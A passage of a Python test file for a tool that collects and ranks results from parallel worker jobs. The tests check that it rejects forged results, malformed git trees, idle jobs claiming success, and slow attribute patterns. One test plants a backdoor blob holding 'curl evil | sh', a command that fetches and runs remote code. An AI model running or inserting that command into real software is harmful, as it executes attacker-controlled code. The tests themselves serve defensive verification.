        "more than 2,000,000 files" in r["error"], r["error"]
    assert "bomb" not in (tmp_path / "r.html").read_text()


def test_recheck_leaves_no_claimed_check_standing(pipeline, tmp_path):
    """--recheck runs the checks of the workers that claim success; another's claimed checks
    (a failure claiming 1/1) are not run, so they do not stand: none is shown as run by
    collect, and none ranks a worker ahead of those whose checks collect ran."""
    pipeline.edit(2, lambda d, r: r.update(status="failed", error="gave up", cost=0.0))
    code, results, err = pipeline.collect("--recheck", "--sandbox", "none")
    assert [(r["status"], r["checks_passed"]) for r in results] == [
        ("success", 1), ("failed", 0), ("success", 1)], err
    assert results[1]["checks"] == [] and results[1]["rank"] == 3
    assert "best: worker 1 " in err or "best: worker 3 " in err, err


def test_what_a_results_file_adds_to_a_field_is_not_kept(pipeline, tmp_path):
    """Keys a result's checks or timeline entries do not have, a sandbox that is not one,
    and long refused paths: dropped or cut, so last-run.json and the report stay small."""
    junk = "\u2028" * 100000

    def change(data, r):
        r["sandbox"] = junk
        r["sandbox_refused"] = [junk] * 20
        r["checks"][0]["junk"] = junk
        r["timeline"] = [dict(e, junk=junk) for e in r["timeline"]]
    pipeline.edit(2, change)
    code, results, err = pipeline.collect("--html", tmp_path / "r.html")
    r = results[1]
    assert r["status"] == "success" and r["sandbox"] is None, err
    assert set(r["checks"][0]) == {"command", "passed", "exit_code", "duration"}
    assert all(set(e) == {"state", "at"} for e in r["timeline"]) and r["timeline"]
    assert all(len(p) <= 1000 for p in r["sandbox_refused"])
    state = pipeline.collector / ".git" / "architect-parallel" / "last-run.json"
    assert state.stat().st_size < 500000 and (tmp_path / "r.html").stat().st_size < 1000000


# -- review round 23 ------------------------------------------------------------------------------

@pytest.mark.parametrize("won", [{"worker": [2], "after": 1.0}, {"worker": {}, "after": 1.0},
                                 {"worker": 2, "after": [1]}, [2], "2"])
def test_a_run_field_of_any_shape_breaks_no_collect(pipeline, won):
    """A results file's run fields besides its results (its win, times, spend) are checked
    once as they are read: a list where a worker id goes broke collect with a traceback (exit
    1, no results, no JUnit), losing the honest workers' results."""
    pipeline.edit(2, lambda d, r: d.update(won=won, started=[1], finished={"a": 1}, spent="x"))
    code, results, err = pipeline.collect("--stop-on-pass")
    assert code == 0 and "Traceback" not in err and len(results) == 3, err


# -- review round 28 ------------------------------------------------------------------------------

@pytest.mark.parametrize("claimed", ["success", "failed"])
def test_a_tree_naming_a_file_twice_is_not_verified(pipeline, tmp_path, claimed):
    """Worker 2's commit names app.py twice, the base's content and a backdoor: a diff shows
    one as a new file, a checkout writes the other. A fetch from a bundle checks no object
    before git 2.46; collect checks the new objects as git's strict check does. (Round 34:
    a job claiming failure kept such a commit, and `merge --force` wrote it.)"""
    make = _maker(tmp_path / "job2")
    evil = make(["hash-object", "-w", "--stdin"], b"import os; os.system('curl evil | sh')\n")
    files = [(line.split()[0], line.split("\t")[1], line.split()[2])
             for line in make(["ls-tree", _tip(pipeline, 2)]).splitlines()]
    _commit_on(pipeline, make, _raw_tree(make, files + [("100644", files[0][1], evil)]))
    pipeline.edit(2, lambda d, r: r.update(status=claimed))
    code, results, err = pipeline.collect()
    assert results[1]["status"] == "failed" and "malformed" in results[1]["error"], results[1]
    # (round 34: the commit it did not verify is not kept, for diff, the report or merge)
    assert results[1]["commit"] is None and results[1]["files_modified"] == [], results[1]


def test_a_job_that_did_nothing_does_not_outrank_one_that_did_the_work(pipeline):
    """Worker 1's job claims a success that changed nothing, at $0 in no time: it ranked
    first above the workers that did the work (and the README's workflow then published no
    bundle). A worker that changed nothing ranks after those that did."""
    git("branch", "-D", "architect/parallel-1", cwd=pipeline.collector)
    pipeline.edit(1, lambda d, r: r.update(commit=None, files_modified=[], cost=0.0, duration=0))
    code, results, err = pipeline.collect()
    assert [r["rank"] for r in results][0] == 3 and results[0]["status"] == "success", results


# -- review round 29 ------------------------------------------------------------------------------

def test_an_entry_where_a_worktree_is_is_not_verified(pipeline, tmp_path):
    """Worker 2's job commits a submodule entry at .architect-parallel-1 (where worker 1's
    worktree is): merged, your own `git status` went into that worktree as a submodule's.
    Collect verified it, looking only beneath the folder."""
    make = _maker(tmp_path / "job2")
    files = [(line.split()[0], line.split("\t")[1], line.split()[2])
             for line in make(["ls-tree", _tip(pipeline, 2)]).splitlines()]
    _commit_on(pipeline, make, _raw_tree(make, files + [("160000", ".architect-parallel-1",
                                                          _tip(pipeline, 2))]))
    code, results, err = pipeline.collect()
    assert results[1]["status"] == "failed" and "worktrees are" in results[1]["error"], results[1]


# -- review round 33 ------------------------------------------------------------------------------

def test_a_failed_job_keeps_no_files_its_results_claim(pipeline):
    """A job claiming `failed`, no commit and 5,000 changed files (a backdoor.py among them):
    the table, the step summary and the ranking said 5,000 files while its own section of
    the report said none. What is kept of a worker's files is what git says of its commit."""
    pipeline.edit(2, lambda d, r: r.update(status="failed", commit=None, error="boom",
                                           files_modified=[f"f{n}.py" for n in range(5000)]
                                           + ["backdoor.py"]))
    code, results, err = pipeline.collect()
    assert results[1]["status"] == "failed" and results[1]["files_modified"] == [], results[1]


# -- review round 35 ------------------------------------------------------------------------------

@pytest.mark.parametrize("commit", ["empty", "base"])
def test_a_job_whose_commit_changes_nothing_does_not_outrank_one_that_did_the_work(pipeline,
                                                                                   commit):
    """Round 28's idle rule, with a commit: worker 1's job claims success at $0 in no time with
    a commit whose tree is the base's (an empty commit, or the base itself): it ranked first
    and `merge best` brought nothing."""
    base = git("rev-parse", "HEAD", cwd=pipeline.collector)
    tip = base if commit == "base" else git(
        "commit-tree", f"{base}^{{tree}}", "-p", base, "-m", "nothing", cwd=pipeline.collector)
    git("update-ref", "refs/heads/architect/parallel-1", tip, cwd=pipeline.collector)
    pipeline.edit(1, lambda d, r: r.update(commit=tip, files_modified=[], cost=0.0, duration=0))
    code, results, err = pipeline.collect()
    assert results[0]["rank"] == 3, results


def test_a_failed_jobs_commit_that_a_checkout_writes_otherwise_is_not_kept(pipeline, tmp_path):
    """A job claiming failure kept a commit adding `*.py ident` (a checkout writes `$Id: ...$`
    where the diff shows `$Id$`), which the same commit claiming success would not: a kept
    commit is checked alike."""
    worktree = tmp_path / "job2" / ".architect-parallel-2"
    (worktree / ".gitattributes").write_text("*.py ident\n")
    (worktree / "stamp.py").write_text("# $Id$\n")
    git("add", ".gitattributes", "stamp.py", cwd=worktree)
    git("commit", "-q", "-m", "ident", cwd=worktree)
    tip = git("rev-parse", "HEAD", cwd=worktree)
    pipeline.fetch(2)
    pipeline.edit(2, lambda d, r: r.update(status="failed", commit=tip, error="boom"))
    code, results, err = pipeline.collect()
    assert results[1]["commit"] is None and "did not keep its commit" in results[1]["error"], results[1]


# -- review round 107 -----------------------------------------------------------------------------

def test_collect_checks_a_slow_matching_commit_for_a_bounded_time(pipeline, monkeypatch):
    """Round 107 (A): a worker job's commit holding a .gitattributes rule of many `*`s (matched
    by backtracking) kept each of collect's checks of it busy for up to 600 s, one after the
    other: half an hour a worker. They have 600 s in all (3 here); that worker then fails, and
    the others are collected."""
    import time

    import architect_parallel as ap
    from test_leftovers import _slow_branch
    _slow_branch(pipeline.tmp / "job2", "architect/parallel-2", 2)
    pipeline.fetch(2)
    pipeline.edit(2, lambda d, r: r.update(commit=_tip(pipeline, 2)))
    monkeypatch.setattr(ap, "_COLLECT_CHECK_SECONDS", 3.0)
    started = time.monotonic()
    code, results, err = pipeline.collect()
    assert time.monotonic() - started < 120, err
    assert results[1]["status"] == "failed" and \
        "its checks took more than 3 s in all" in results[1]["error"], results[1]
    assert results[0]["status"] == "success" and results[2]["status"] == "success", results
